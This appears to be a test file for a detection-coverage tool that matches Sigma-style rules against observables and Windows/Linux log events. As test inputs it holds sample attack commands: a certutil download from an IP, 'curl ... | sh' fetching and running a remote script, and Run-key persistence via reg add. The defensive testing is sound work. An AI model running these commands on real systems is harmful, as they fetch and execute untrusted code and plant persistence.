import { CorpusCoverage, eventTelemetryClass } from './corpus-coverage';

const rule = (title: string, logsource: Record<string, string>, selection: Record<string, unknown>) =>
  JSON.stringify({ title, logsource, detection: { selection, condition: 'selection' } });

describe('corpus coverage of observables', () => {
  const coverage = new CorpusCoverage<string>();
  coverage.add(
    rule(
      'certutil download',
      { category: 'process_creation', product: 'windows' },
      { 'Image|endswith': '\\certutil.exe', 'CommandLine|contains': 'urlcache' },
    ),
    'certutil',
  );
  coverage.add(
    rule('any image missing .exe', { category: 'process_creation', product: 'windows' }, { 'Image|contains': '/' }),
    'windows-only',
  );
  coverage.add(
    rule('curl piped to shell', { category: 'process_creation', product: 'linux' }, { 'CommandLine|contains|all': ['curl', '| sh'] }),
    'curl-sh',
  );
  coverage.add(
    rule('script block with curl', { category: 'ps_script', product: 'windows' }, { 'ScriptBlockText|contains': 'curl' }),
    'ps-script',
  );
  coverage.add(
    rule('Run key', { category: 'registry_set', product: 'windows' }, { 'TargetObject|contains': '\\CurrentVersion\\Run\\' }),
    'run-key',
  );
  coverage.add('title: broken\ndetection: [not, a, mapping]', 'broken');

  it('compiles what it can run and counts the rest', () => {
    expect(coverage.size).toEqual({ rules: 5, skipped: 1 });
  });

  it('says which rules fire on which observable, and which observables none covers', () => {
    const result = coverage.cover(
      [
        { type: 'cmdline', value: 'certutil -urlcache -split -f http://198.51.100.7/a.txt a.txt' },
        { type: 'registry_key', value: 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater' },
        { type: 'domain', value: 'update-check.example.net' },
      ],
      { product: 'windows' },
    );
    expect(result).toEqual([
      { observable: 'cmdline: certutil -urlcache -split -f http://198.51.100.7/a.txt a.txt', rules: ['certutil'] },
      { observable: 'registry_key: HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater', rules: ['run-key'] },
      { observable: 'domain: update-check.example.net', rules: [] },
    ]);
  });

  it('answers every observable uncovered when no rule is of the article product, or the corpus is empty', () => {
    const observables = [
      { type: 'cmdline', value: 'certutil -urlcache -split -f http://198.51.100.7/a.txt a.txt' },
      { type: 'domain', value: 'update-check.example.net' },
    ];
    const windowsOnly = new CorpusCoverage<string>();
    windowsOnly.add(
      rule('certutil download', { category: 'process_creation', product: 'windows' }, { 'CommandLine|contains': 'urlcache' }),
      'certutil',
    );
    const uncovered = observables.map((o) => ({ observable: `${o.type}: ${o.value}`, rules: [] }));
    expect(windowsOnly.cover(observables, { product: 'linux' })).toEqual(uncovered);
    expect(windowsOnly.cover(observables, { product: 'windows' })[0]?.rules).toEqual(['certutil']);
    expect(new CorpusCoverage<string>().cover(observables, { explain: true })).toEqual(
      uncovered.map((entry) => ({ ...entry, explained: [] })),
    );
  });

  it('tries only rules of the article product and of the event telemetry class', () => {
    const [linux] = coverage.cover([{ type: 'cmdline', value: 'curl -s http://203.0.113.9/sh | sh' }], { product: 'linux' });
    // The Windows rule on images with a slash, and the PowerShell script-block rule, do not apply.
    expect(linux?.rules).toEqual(['curl-sh']);
    const [unknown] = coverage.cover([{ type: 'cmdline', value: 'curl -s http://203.0.113.9/sh | sh' }]);
    expect(unknown?.rules).toEqual(['windows-only', 'curl-sh']);
  });

  it('knows the telemetry class of each synthetic event kind', () => {
    expect([1, 13, 22, 3, 7045, 4698].map((EventID) => eventTelemetryClass({ EventID }))).toEqual([
      'process_creation',
      'registry',
      'dns',
      'network_connection',
      'windows_system',
      'windows_security',
    ]);
    expect(eventTelemetryClass({ 'cs-host': 'a.example' })).toBe('proxy');
    expect(eventTelemetryClass({ Foo: 1 })).toBeNull();
  });
});

describe('corpus coverage reads the logs a command leaves, each rule only on its own kind of event', () => {
  const coverage = new CorpusCoverage<string>();
  const run = { 'TargetObject|contains': '\\CurrentVersion\\Run\\' };
  coverage.add(rule('Run value set', { category: 'registry_set', product: 'windows' }, run), 'set');
  coverage.add(rule('Run value deleted', { category: 'registry_delete', product: 'windows' }, run), 'delete');
  coverage.add(rule('Run value any event', { category: 'registry_event', product: 'windows' }, run), 'any');
  coverage.add(
    rule('script block', { category: 'ps_script', product: 'windows' }, { 'ScriptBlockText|contains': 'Set-Example' }),
    'script',
  );
  coverage.add(rule('module log', { category: 'ps_module', product: 'windows' }, { 'ContextInfo|contains': 'Set-Example' }), 'module');
  coverage.add(rule('auditd path', { product: 'linux', service: 'auditd' }, { type: 'PATH', name: '/etc/example.conf' }), 'auditd');

  it('names the rules of a deletion for a value the commands delete, not those of a value set', () => {
    const [removed] = coverage.cover(
      [{ type: 'cmdline', value: 'reg delete HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Tray /f' }],
      {
        product: 'windows',
      },
    );
    expect(removed?.rules).toEqual(['delete', 'any']);
    const [written] = coverage.cover(
      [{ type: 'cmdline', value: 'reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Tray /d C:\\x.exe /f' }],
      {
        product: 'windows',
      },
    );
    expect(written?.rules).toEqual(['set', 'any']);
  });

  it('names script-block and module-logging rules for the code PowerShell ran, and auditd rules for a Linux write', () => {
    expect(coverage.cover([{ type: 'cmdline', value: 'powershell -c "Set-Example -On"' }], { product: 'windows' })[0]?.rules).toEqual([
      'script',
      'module',
    ]);
    // Code PowerShell never ran (a cmd built-in) is in neither log.
    expect(coverage.cover([{ type: 'cmdline', value: 'cmd /c echo Set-Example' }], { product: 'windows' })[0]?.rules).toEqual([]);
    expect(coverage.cover([{ type: 'cmdline', value: 'echo on | tee /etc/example.conf' }], { product: 'linux' })[0]?.rules).toEqual([
      'auditd',
    ]);
  });

  it('names the rules recorded events fire, with the same class, product and kind gating as cover()', () => {
    const target = 'HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Tray';
    expect(coverage.coverEvents([{ EventID: 13, EventType: 'SetValue', TargetObject: target }], { product: 'windows' })).toEqual([
      'set',
      'any',
    ]);
    // A deletion is no value set; a Windows rule says nothing of a Linux event.
    expect(coverage.coverEvents([{ EventID: 12, EventType: 'DeleteValue', TargetObject: target }], { product: 'windows' })).toEqual([
      'delete',
      'any',
    ]);
    expect(coverage.coverEvents([{ EventID: 13, EventType: 'SetValue', TargetObject: target }], { product: 'linux' })).toEqual([]);
  });

  it('knows the classes of the script-block, file and auditd events', () => {
    expect(eventTelemetryClass({ EventID: 4104 })).toBe('powershell');
    expect(eventTelemetryClass({ EventID: 11 })).toBe('file_event');
    expect(eventTelemetryClass({ type: 'EXECVE', a0: 'id' })).toBe('linux_auditd');
  });
});
